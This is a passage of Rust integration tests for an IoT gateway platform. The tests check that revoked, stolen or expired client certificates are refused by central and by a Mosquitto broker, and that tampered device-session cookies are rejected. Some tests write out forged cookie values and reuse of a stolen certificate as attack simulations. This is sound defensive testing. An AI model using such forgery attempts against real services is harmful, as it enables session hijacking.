        metric(&text, "gridedge_central_certificates_revoked"),
        1.0,
        "{text}"
    );
    wait_online(&central, "gw-rev").await;
    // Its health names the new certificate's expiry: about 30 days off.
    let expires = eventually(
        "the renewed certificate reported",
        Duration::from_secs(20),
        || async {
            let all = central.gateways().await.ok()?;
            let g = all.into_iter().find(|g| g["id"] == "gw-rev")?;
            let e = g["health"]["certificate_expires"].as_str()?.to_owned();
            let t = time::OffsetDateTime::parse(&e, &time::format_description::well_known::Rfc3339)
                .ok()?;
            let days = (t - time::OffsetDateTime::now_utc()).whole_days();
            (days <= 30).then_some(days)
        },
    )
    .await
    .unwrap();
    assert!(expires >= 29, "{expires}");
    let sent = gw.post_events(&events(0, 3)).await.unwrap();
    wait_stored(&central, "gw-rev", &sent, 20).await;

    // The thief, with the stolen certificate: refused.
    let port = port_of(&tls_url);
    let (out, code) = tokio::task::spawn_blocking(move || {
        subscribe(port, &stolen, "gw-rev", &["gridedge/v1/gw/gw-rev/cmd"], 2)
    })
    .await
    .unwrap();
    assert_ne!(code, Some(0), "{out}");
    assert!(out.contains("not authorised"), "{out}");
    // An expired certificate: refused at the handshake.
    let expired = pki.client_valid("gw-old", -30, -1).unwrap();
    let (out, code) = tokio::task::spawn_blocking(move || {
        subscribe(port, &expired, "gw-old", &["gridedge/v1/gw/gw-old/cmd"], 2)
    })
    .await
    .unwrap();
    assert_ne!(code, Some(0), "{out}");
    assert!(!out.contains("CONNACK (0)"), "{out}");
}

/// Threat: a stolen gateway on Mosquitto. Once revoked, Mosquitto (told to reload) refuses its
/// certificate, and central refuses whatever it still sends on the connection Mosquitto keeps
/// open, within a minute and without a restart.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn on_mosquitto_a_revoked_certificate_is_refused_by_the_broker_and_by_central() {
    init_test_logging();
    let m = Mosquitto::start().unwrap();
    let crl = m.pki.crl_file().unwrap();
    let central = TestCentral::external_config(
        &m.tls_url(),
        Some(&m.pki.client("central").unwrap()),
        &format!("crl_file = \"{}\"\n", crl.display()),
    )
    .await
    .unwrap();
    let files = m.pki.client("gw-mrev").unwrap();
    let gw = TestGateway::start("gw-mrev", &m.tls_url(), Some(&files))
        .await
        .unwrap();
    wait_online(&central, "gw-mrev").await;
    let before = gw.post_events(&events(0, 3)).await.unwrap();
    wait_stored(&central, "gw-mrev", &before, 20).await;

    m.pki.revoke(&files).unwrap();
    m.reload().unwrap();
    let t0 = Instant::now();
    eventually(
        "central refuses the revoked gateway",
        Duration::from_secs(60),
        || async {
            let text = central.metrics().await;
            (metric(
                &text,
                "gridedge_central_messages_rejected_total{reason=\"revoked\"}",
            ) >= 1.0)
                .then_some(())
        },
    )
    .await
    .unwrap();
    assert!(t0.elapsed() < Duration::from_secs(60));
    // What it sends now is not stored.
    gw.post_events(&events(3, 3)).await.unwrap();
    tokio::time::sleep(Duration::from_secs(3)).await;
    assert_eq!(stored(&central, "gw-mrev").await, before);
    // A new connection with the certificate: refused by Mosquitto.
    let port = m.tls_port;
    let (out, code) = tokio::task::spawn_blocking(move || {
        subscribe(port, &files, "gw-mrev", &["gridedge/v1/gw/gw-mrev/cmd"], 2)
    })
    .await
    .unwrap();
    assert_ne!(code, Some(0), "{out}");
    assert!(!out.contains("CONNACK (0)"), "{out}");
}

/// Threat: a terminal's browser session forged or borrowed — a source's token traded for a
/// page session, a cookie edited to name another terminal, a session used where only a
/// source's bearer token counts.
#[tokio::test]
async fn a_device_session_is_a_terminals_own_and_cannot_be_forged() {
    init_test_logging();
    let gw = TestGateway::start("gw-session", "mqtt://127.0.0.1:1", None)
        .await
        .unwrap();
    let url = gw.url("/api/v1/device-session");
    let client = reqwest::Client::new();
    let exchange = |token: String| {
        let (client, url) = (client.clone(), url.clone());
        async move {
            client
                .post(url)
                .json(&json!({ "token": token }))
                .send()
                .await
                .unwrap()
        }
    };
    assert_eq!(exchange("guess".into()).await.status().as_u16(), 401);
    let source = exchange(gridedge_tests::services::source_token("gw-session")).await;
    assert_eq!(source.status().as_u16(), 403, "sources have no pages");
    let ok = exchange(gridedge_tests::services::viewer_token("gw-session")).await;
    assert_eq!(ok.status().as_u16(), 200);
    let set = ok.headers()["set-cookie"].to_str().unwrap().to_owned();
    assert!(
        set.contains("HttpOnly") && set.contains("SameSite=Strict"),
        "{set}"
    );
    let cookie = set.split(';').next().unwrap().to_owned();
    let who = |cookie: String| {
        let (client, url) = (client.clone(), url.clone());
        async move {
            let r = client
                .get(url)
                .header("cookie", cookie)
                .send()
                .await
                .unwrap();
            (
                r.status().as_u16(),
                r.json::<Value>().await.unwrap_or(Value::Null),
            )
        }
    };
    let (status, me) = who(cookie.clone()).await;
    assert_eq!(
        (status, me["terminal"].as_str()),
        (200, Some("security-room"))
    );
    // The cookie edited to name another device, or to last longer: refused.
    let value = cookie.trim_start_matches("gridedge_device=");
    let parts: Vec<&str> = value.split('.').collect();
    use base64::Engine;
    let other = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode("tests");
    for forged in [
        format!("gridedge_device={other}.{}.{}", parts[1], parts[2]),
        format!(
            "gridedge_device={}.{}.{}",
            parts[0], 99_999_999_999u64, parts[2]
        ),
    ] {
        assert_eq!(who(forged).await.0, 401);
    }
    // A terminal's session posts no events.
    let r = client
        .post(gw.url("/api/v1/events"))
        .header("cookie", &cookie)
        .json(&json!([{"class": "alert", "kind": "door.forced", "payload": {}}]))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 401);
}
